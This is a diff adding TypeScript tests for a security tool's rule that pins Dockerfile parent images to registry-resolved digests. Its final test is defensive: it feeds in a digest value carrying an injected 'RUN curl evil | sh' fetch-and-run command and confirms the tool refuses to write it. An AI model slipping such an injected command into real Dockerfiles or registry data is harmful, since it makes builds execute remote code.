@@ -81,3 +81,56 @@ describe('SS-CTL-B01 trusted, pinned parent images', () => {
     expect(outcome.evidence[0]?.text).toContain('ARG BASE');
   });
 });
+
+describe('SS-CTL-B01 pins with the digests its registries give (`fix --resolve`)', () => {
+  const text =
+    'ARG BASE=debian:12\nFROM --platform=$BUILDPLATFORM golang:1.22 AS build\nRUN go build\nFROM ${BASE} AS base\nFROM alpine:3.19\nCOPY --from=build /out /out\n';
+  const golang = digestOf('golang');
+  const alpine = digestOf('alpine');
+  const evaluate = (source: string, resolvedDigests: ReadonlyMap<string, string>) =>
+    trustedParentImages.evaluate({ ...context(estate({ dockerfiles: [readDockerfile('Dockerfile', source, '.')] })), resolvedDigests });
+
+  it('pins each FROM written as a reference, keeping --platform and AS, and has nothing left to pin after', () => {
+    const resolved = new Map([
+      ['golang:1.22', golang],
+      // the normalised form is looked up too
+      ['docker.io/library/alpine:3.19', alpine],
+      ['debian:12', digestOf('debian')],
+    ]);
+    const pins = evaluate(text, resolved).changes.filter((c) => c.summary.startsWith('pin the parent'));
+    expect(pins.map((c) => [c.line, c.edits.length, c.rules])).toEqual([
+      [2, 1, ['SS-DF-001']],
+      // FROM ${BASE}: the ARG default is where the digest goes, by hand
+      [4, 0, ['SS-DF-001']],
+      [5, 1, ['SS-DF-001']],
+    ]);
+    expect(pins[0]?.summary).toContain('the digest its registry gave for the tag');
+    expect(pins[1]?.summary).toContain(`make the ARG default that line 4 of Dockerfile uses name debian:12@${digestOf('debian')}`);
+    const pinned = applyEdits(
+      text,
+      'Dockerfile',
+      pins.flatMap((c) => c.edits),
+    );
+    expect(pinned.split('\n').slice(1, 5)).toEqual([
+      `FROM --platform=$BUILDPLATFORM golang:1.22@${golang} AS build`,
+      'RUN go build',
+      'FROM ${BASE} AS base',
+      `FROM alpine:3.19@${alpine}`,
+    ]);
+    const again = evaluate(pinned, resolved).changes.filter((c) => c.edits.length > 0);
+    expect(again).toEqual([]);
+    expect(
+      readDockerfile('Dockerfile', pinned, '.')
+        .findings.filter((f) => f.ruleId === 'SS-DF-001')
+        .map((f) => f.location.startLine),
+    ).toEqual([4]);
+  });
+
+  it('writes no digest that is not one', () => {
+    const resolved = new Map([
+      ['golang:1.22', 'sha256:abc'],
+      ['alpine:3.19', `${alpine}\nRUN curl evil | sh`],
+    ]);
+    expect(evaluate(text, resolved).changes.filter((c) => c.edits.length > 0)).toEqual([]);
+  });
+});
